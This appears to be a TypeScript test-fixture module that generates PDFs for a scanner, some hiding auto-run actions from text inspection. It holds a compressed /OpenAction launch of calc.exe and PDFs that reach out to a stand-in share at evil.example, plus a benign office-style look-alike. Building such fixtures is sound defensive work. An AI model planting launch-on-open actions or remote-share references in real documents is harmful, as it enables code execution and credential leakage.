/** PDFs for tests whose actions are hidden from a look at their text, and ordinary ones that look like them. */
import { deflateSync } from 'node:zlib';
import { catalogue, PAGE, PAGES, rawPdf, stream } from './pdfs.ts';

/** Starts a program when it opens; the action is in an object stream whose dictionary says this of its filter. */
export function packedLaunchPdf(filter: string): Uint8Array<ArrayBuffer> {
  const content = deflateSync(Buffer.from('9 0 << /S /Launch /F (calc.exe) >>'));
  // Readers need no type.
  const numbers = '/N 1 /First 4';
  return rawPdf([
    catalogue('/OpenAction 9 0 R'),
    PAGES,
    PAGE,
    stream(content, `${numbers} ${filter}`),
    '/FlateDecode',
  ]);
}

/** Performs an action when it opens, with the name of a share in another object. */
export const distantActionPdf = (action: string) =>
  rawPdf([catalogue(`/OpenAction << ${action} >>`), PAGES, PAGE, '(\\\\\\\\evil.example\\\\s)']);

/** Has a page whose content is this object, with the name of a share in the next one. */
export const distantContentPdf = (content: string) =>
  rawPdf([
    catalogue(''),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    content,
    '(\\\\\\\\evil.example\\\\s)',
  ]);

/** A document of an office program: an article's thread, a palette, and an object stream with other spacing. */
export const officePdf = () =>
  rawPdf([
    catalogue('/Threads [6 0 R]'),
    PAGES,
    PAGE,
    stream(
      deflateSync(Buffer.alloc(100)),
      [
        '/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/Filter/FlateDecode',
        '/ColorSpace[/Indexed/DeviceRGB 1(\\(%a\\\\(b))]/DecodeParms<</Predictor 12/Columns 10>>',
      ].join(''),
    ),
    stream(
      deflateSync(Buffer.from('9 0 << /Producer (Office) >>')),
      '/Extends 8 0 R/Filter[ /FlateDecode ]/First 4/N 1/Type/ObjStm',
    ),
    '<< /Type /Thread /I << /Title (Nota) >> >>',
  ]);
